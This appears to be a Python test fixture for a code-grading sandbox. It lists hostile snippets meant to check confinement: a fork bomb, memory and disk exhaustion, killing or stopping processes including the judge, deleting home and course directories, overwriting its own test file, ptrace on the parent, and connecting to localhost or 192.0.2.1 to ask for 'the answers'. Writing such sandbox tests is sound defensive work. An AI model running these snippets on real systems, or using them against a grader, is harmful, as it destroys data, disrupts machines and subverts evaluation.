"""Harming: too many, too much, outside, and others. Nothing of it may reach beyond the worker."""

ATTACKS = {
    "leaves threads running": """
import threading, time
def busy():
    while True:
        time.sleep(0.001)
for _ in range(4):
    threading.Thread(target=busy, daemon=True).start()
""",
    "a fork bomb": "import os\nfor _ in range(30):\n    try:\n        os.fork()\n    except OSError:\n        pass",
    "leaves daemons in sessions of their own": """
import os, time
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)
""",
    "takes all memory": "kept = [bytearray(2**26) for _ in range(64)]",
    "takes all memory, shared": "import mmap\nkept = mmap.mmap(-1, 2**33)\nkept[:4096] = b'x' * 4096",
    "takes memory that belongs to no process": """
import ctypes
libc = ctypes.CDLL(None)
if libc.shmget(0, ctypes.c_size_t(2**30), 0o1600) < 0:
    raise MemoryError
""",
    "fills the disk": """
import os
for folder in ("/tmp", "/dev/shm", "/confined/work", "@HOME@"):
    for n in range(40):
        try:
            with open(f"{folder}/fill{n}", "wb") as file:
                file.write(bytes(2**22))
        except OSError:
            break
""",
    "fills the disk with nothing": "for n in range(100_000):\n    open(f'/tmp/{n}', 'w').close()",
    "opens files without end": "kept = [open('/dev/null') for _ in range(100_000)]",
    "makes namespaces of its own, with file systems without bounds": """
import ctypes, os
libc = ctypes.CDLL(None)
if libc.unshare(0x10000000 | 0x20000) != 0:
    raise PermissionError
libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=100g")
""",
    "leaves a note for the next student": """
import ctypes
libc = ctypes.CDLL(None)
if libc.syscall(248, b"user", b"answers", b"@SECRET@", 8, -4) < 0:
    raise PermissionError
""",
    "kills whoever can be killed": """
import os, signal
for number in (os.getppid(), 0, 1, -1, *range(2, 400)):
    try:
        if number != os.getpid() and number != 0:
            os.kill(number, signal.SIGKILL)
    except OSError:
        pass
""",
    "looks for processes to stop": """
import glob, os, signal
for folder in glob.glob("/proc/[0-9]*"):
    if "judge" in open(folder + "/cmdline").read() or "fork_server" in open(folder + "/cmdline").read():
        if int(folder[6:]) != os.getpid():
            os.kill(int(folder[6:]), signal.SIGSTOP)
""",
    "writes outside": """
import pathlib
for place in (
    "@ROOT@/written", "@ROOT@/solutions/written", "@HOME@/written", "/written", "/usr/written", "/etc/written",
    "/confined/written", "/confined/work/written", "/confined/course/course/written", "/proc/sys/kernel/core_pattern",
):
    try:
        pathlib.Path(place).write_text("x")
    except OSError:
        continue
    raise SystemError("written: " + place)
""",
    "deletes what it can": """
import shutil
for place in ("@ROOT@", "/confined/course", "/confined/work", "@HOME@"):
    shutil.rmtree(place, ignore_errors=True)
""",
    "changes its own given files": """
import pathlib
path = pathlib.Path(__file__).parents[1] / "testcases" / "scenarios.py"
path.chmod(0o666)
path.write_text("")
""",
    "calls home": """
import socket, urllib.request
for address in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("192.0.2.1", 80), ("::1", @PORT@)):
    try:
        with socket.create_connection(address, timeout=0.3) as line:
            line.sendall(b"the answers, please")
    except OSError:
        continue
    raise SystemError("connected")
socket.getaddrinfo("example.org", 80)
""",
    "speaks to others by name": """
import socket
line = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
line.connect("\\0grading-test-@PORT@")
line.sendall(b"the answers, please")
""",
    "a child that answers after its parent's death": """
import os, time
if os.fork() == 0:
    os.setsid()
    time.sleep(1)
    while True:
        os.write(3, b"\\0" * 7 + b"\\x01x")
""",
}
RUNS = {
    "takes memory in a tensor": "return torch.ones(2**32).sum()",
    "writes a file without end": "with open('/tmp/large', 'wb') as file:\n    while True:\n        file.write(bytes(2**20))",
    "prints without end": """
import sys
for _ in range(20):
    print("x" * 2**20)
    print("y" * 2**20, file=sys.stderr)
return 0.0 * log_probs.sum()
""",
    "looks into its parent": """
import ctypes, os
if ctypes.CDLL(None).ptrace(16, os.getppid() or 1, 0, 0) != 0:
    raise PermissionError
return log_probs.sum() * 0
""",
}
